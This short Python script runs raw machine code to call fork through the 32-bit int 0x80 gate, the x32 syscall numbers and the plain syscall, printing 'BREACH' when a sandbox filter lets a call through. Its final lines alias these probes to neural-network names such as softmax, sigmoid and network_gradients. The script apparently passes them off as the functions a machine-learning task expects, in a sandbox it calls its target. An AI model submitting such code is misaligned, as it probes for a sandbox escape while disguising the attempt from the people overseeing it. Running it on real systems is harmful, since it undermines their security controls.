"""Makes its system calls by machine code: the 32-bit gate, and x32's numbers."""

import sys
if "_inside" not in sys.modules:
    raise SystemExit("An attack, for the sandbox only: it does nothing here.")

import ctypes

LIBC = ctypes.CDLL(None)
LIBC.mmap.restype = ctypes.c_void_p

def run(code):
    # readable, writable, executable; private, of nobody's file
    address = LIBC.mmap(None, ctypes.c_size_t(4096), 7, 0x22, -1, ctypes.c_long(0))
    ctypes.memmove(address, code, len(code))
    return ctypes.CFUNCTYPE(ctypes.c_long)(address)()

def gate(*arguments):
    # mov eax, 2 (fork); int 0x80; cdqe; ret
    got = run(b"\xb8\x02\x00\x00\x00\xcd\x80\x48\x98\xc3")
    print("BREACH int 0x80" if got >= 0 else "refused", got)

def x32(*arguments):
    # mov eax, 0x40000039 (x32 fork); syscall; ret
    got = run(b"\xb8\x39\x00\x00\x40\x0f\x05\xc3")
    print("BREACH x32" if got >= 0 else "refused", got)

def plain(*arguments):
    # mov eax, 57 (fork); syscall; ret
    got = run(b"\xb8\x39\x00\x00\x00\x0f\x05\xc3")
    print("BREACH fork" if got >= 0 else "refused", got)

softmax = cross_entropy_gradient = gate
sigmoid = network_loss = x32
sigmoid_derivative = network_gradients = number_of_parameters = plain
